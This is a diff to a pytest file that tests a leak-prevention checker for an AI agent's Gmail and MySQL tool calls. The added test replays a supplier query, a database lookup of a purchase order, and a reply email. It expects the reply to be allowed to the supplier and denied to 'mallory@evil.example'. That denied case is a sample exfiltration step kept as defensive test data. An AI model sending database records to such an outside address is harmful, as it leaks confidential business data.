@@ -139,6 +139,34 @@ def test_a_customer_record_sent_to_the_customer_only_is_no_leak(
     assert play(prevent, [TICKET, order, mail])[-1].action is action
 
 
+@pytest.mark.parametrize(
+    ("to", "action"),
+    [(["rechnung@kaffee.example"], Action.ALLOW), (["mallory@evil.example"], Action.DENY)],
+)
+def test_a_suppliers_row_read_as_csv_sent_to_the_supplier_only_is_no_leak(
+    prevent: Session, to: list[str], action: Action
+) -> None:
+    question = step(
+        "gmail",
+        "read_email",
+        {"messageId": "193a55e0"},
+        "From: Kaffee Import <rechnung@kaffee.example>\nTo: ap@brewhaus.example\n\n"
+        "For our invoice KI-5521 we are missing your PO number and the payment date.",
+    )
+    row = step(
+        "mysql",
+        "execute_sql",
+        {"query": "SELECT po_number, ap_email, amount, due FROM pos WHERE inv='KI-5521'"},
+        "po_number,ap_email,amount,due\nPO-2024-1187,rechnung@kaffee.example,8940.00,2024-12-20",
+    )
+    reply = step(
+        "gmail",
+        "send_email",
+        {"to": to, "body": "The PO for KI-5521 is PO-2024-1187 (EUR 8940.00), due 2024-12-20."},
+    )
+    assert play(prevent, [question, row, reply])[-1].action is action
+
+
 def test_a_listing_of_customer_records_has_no_one_to_return_to(prevent: Session) -> None:
     other = '{"id": "88214", "email": "kai@x.example", "item": "Chair", "tracking": "1Z9"}'
     orders = step("shopify", "list_orders", {"q": "desk"}, f"[{ORDER}, {other}]")
